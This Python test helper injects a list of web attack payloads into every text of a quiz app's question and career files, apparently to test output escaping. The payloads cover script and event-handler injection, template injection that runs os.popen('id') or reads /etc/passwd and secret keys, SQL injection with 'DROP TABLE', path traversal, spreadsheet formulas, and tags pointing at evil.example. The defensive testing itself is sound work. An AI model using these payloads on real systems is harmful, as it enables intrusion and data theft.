"""Words that run where a page is careless: one in every text of the questions and the careers."""

import json
from itertools import count

from ruamel.yaml import YAML

from quiz.paths import files_root

_RUNS = "ran={mark}"
PAYLOADS = (
    "<script>{run}</script>",
    "</title><script>{run}</script>",
    "</textarea></select></style></script><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<ScRiPt/x>{run}</sCrIpT >",
    "<script src=data:text/javascript,{run}></script>",
    "<img src=x onerror={run}>",
    "<img src=x:x onerror={run}//",
    '"><img src=x onerror={run}>',
    "'><img src=x onerror={run}>",
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    "x onmouseover={run} y=",
    "`><img src=x onerror={run}>",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{run}><text>x</text></a></svg>",
    "<math><mtext></mtext><script>{run}</script></math>",
    "<math><mi//xlink:href=data:x,{run}>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>",
    "<body onload={run}>",
    "<details open ontoggle={run}>x</details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<style>@import '//evil.example/x';*{{background:url(//evil.example)}}</style>",
    "<style onload={run}></style>",
    "<link rel=stylesheet href=//evil.example/x onload={run}>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button autofocus>x</button></form>",
    "<a href=javascript:{run}>x</a>",
    "javascript:{run}",
    "java\u200bscript:{run}",
    "data:text/html,<script>{run}</script>",
    "<template><script>{run}</script></template>",
    "<noscript><p title='</noscript><script>{run}</script>'>",
    "<xmp><p title='</xmp><script>{run}</script>'>",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "%3Cscript%3E{run}%3C/script%3E",
    "\uff1cscript\uff1e{run}\uff1c/script\uff1e",
    "'-eval('{run}')-'",
    '";{run};//',
    "';{run};//",
    "</script><script>{run}//",
    "${{{run}}}",
    "{{{{ 131 * 4099 }}}}",
    "{{% print(131 * 4099) %}}",
    "{{# gone #}}",
    "{{{{ config }}}} {{{{ self.__init__.__globals__ }}}}",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}",
    "{{{{ cycler.__init__.__globals__.os.popen('id').read() }}}}",
    "{{{{ url_for.__globals__.current_app.secret_key }}}}",
    "{{{{ request|attr('application') }}}}",
    "{{% include '/etc/passwd' %}} {{% import 'os' as os %}}",
    "{{0}} {{0.__class__}} {{mark.__globals__}}",
    "%s %d %n %(mark)s %(track)s %%",
    "#{{131*4099}} <%= 131*4099 %> ${{131*4099}} @(131*4099) [[131*4099]]",
    "'; DROP TABLE answer; --",
    "' OR 1=1 --",
    "../../../../etc/passwd",
    "=1+1",
    "@SUM(1+1)",
)
"""Scripts, attributes, addresses, templates, formats and a few for other sinks; `run` marks it."""


_CHOSEN = {"confidence"}
"""Keys whose texts are chosen from a list."""

_KEPT = ("You can ",)
"""How some texts have to begin."""


_SHORT = 40
_NAME = 60
"""Characters that every name has room for, and that no name has more of."""


def payload(number, *, short=False):
    """The payload of this number; it sets `ran` in the window to the number."""
    known = [one for one in PAYLOADS if len(_filled(one, number)) <= _SHORT] if short else PAYLOADS
    return _filled(known[number % len(known)], number)


def _filled(text, number):
    return text.format(run=_RUNS.format(mark=number), mark=number)


def is_text(value):
    """Whether a string is there to be read: no id, no address, no number."""
    return "://" not in value and (" " in value or value[:1].isupper())


def poisoned(part, numbers):
    """The content with a payload for every text."""
    if isinstance(part, dict):
        return {
            key: value if key in _CHOSEN else poisoned(value, numbers)
            for key, value in part.items()
        }
    if isinstance(part, list):
        return [poisoned(value, numbers) for value in part]
    if isinstance(part, str) and is_text(part):
        kept = next((words for words in _KEPT if part.startswith(words)), "")
        return kept + payload(next(numbers), short=len(part) <= _NAME)
    return part


def write_poisoned(folder, *, first=0):
    """Write the shipped content with a payload in every text; how many texts there are."""
    numbers, root = count(first), files_root()
    for file in (
        root / "questions.yaml",
        root / "tracks.yaml",
        *sorted(root.glob("careers/*.yaml")),
    ):
        target = folder / file.relative_to(root)
        target.parent.mkdir(parents=True, exist_ok=True)
        content = YAML(typ="safe").load(file.read_text("utf-8"))
        target.write_text(json.dumps(poisoned(content, numbers), ensure_ascii=False), "utf-8")
    return next(numbers) - first
